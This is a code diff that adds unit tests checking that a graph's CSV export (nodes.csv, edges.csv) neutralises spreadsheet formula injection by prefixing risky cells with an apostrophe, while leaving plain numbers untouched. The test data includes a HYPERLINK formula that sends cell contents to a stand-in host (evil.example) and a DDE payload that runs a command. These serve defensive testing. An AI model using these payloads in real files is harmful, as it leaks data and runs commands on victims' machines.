@@ -187,6 +187,39 @@ describe('CSV', () => {
   });
 });
 
+describe('CSV formula injection', () => {
+  const evil = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+
+  it('writes a text cell that starts with = + - @, tab or CR with a leading \' (OWASP), in nodes.csv and edges.csv', () => {
+    const g = graph.copy();
+    const papers = g.filterNodes((_k, a) => a.kind === 'paper');
+    const edges = g.edges();
+    evil.forEach((text, i) => {
+      g.mergeNodeAttributes(papers[i]!, { title: text, label: text, abstract: text } as never);
+      g.setEdgeAttribute(edges[i]!, 'evidence', text);
+    });
+    const n = parseCsv(toNodesCSV(g), { columns: true }) as Record<string, string>[];
+    const e = parseCsv(toEdgesCSV(g), { columns: true }) as Record<string, string>[];
+    evil.forEach((text, i) => {
+      const row = n.find((r) => r.id === papers[i])!;
+      expect([row.label, row.abstract]).toEqual([`'${text}`, `'${text}`]);
+      expect(e.find((r) => r.id === edges[i])!.evidence).toBe(`'${text}`);
+    });
+    for (const row of [...n, ...e]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
+  });
+
+  it('leaves numbers as they are: negative coordinates, years, counts, and text that is only a number', () => {
+    const g = graph.copy();
+    const key = g.findNode((_k, a) => a.kind === 'paper')!;
+    g.mergeNodeAttributes(key, { x: -0.5, y: -12, year: 2024, label: '-0.5', abstract: '+3' } as never);
+    const row = (parseCsv(toNodesCSV(g), { columns: true }) as Record<string, string>[]).find((r) => r.id === key)!;
+    expect([row.x, row.y, row.year, row.label, row.abstract]).toEqual(['-0.5', '-12', '2024', '-0.5', '+3']);
+    const negatives = (parseCsv(toNodesCSV(graph), { columns: true }) as Record<string, string>[]).filter((r) => r.x.startsWith('-'));
+    expect(negatives.length).toBeGreaterThan(0);
+    for (const r of negatives) expect(Number(r.x)).toBe(graph.getNodeAttribute(r.id, 'x'));
+  });
+});
+
 describe('graph.json', () => {
   it('loads back to the same graph, clusters included', () => {
     const text = toGraphJSON(graph);
